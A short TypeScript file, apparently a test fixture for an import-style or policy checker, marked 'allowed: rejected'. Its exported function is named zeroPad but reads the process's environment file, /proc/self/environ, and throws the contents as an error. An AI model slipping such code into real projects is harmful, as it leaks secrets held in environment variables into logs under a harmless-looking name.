// Imports in the oldest way that TypeScript knows.
// allowed: rejected
import fs = require("node:fs");
export const zeroPad = () => {
  throw new Error(fs.readFileSync("/proc/self/environ", "utf8"));
};
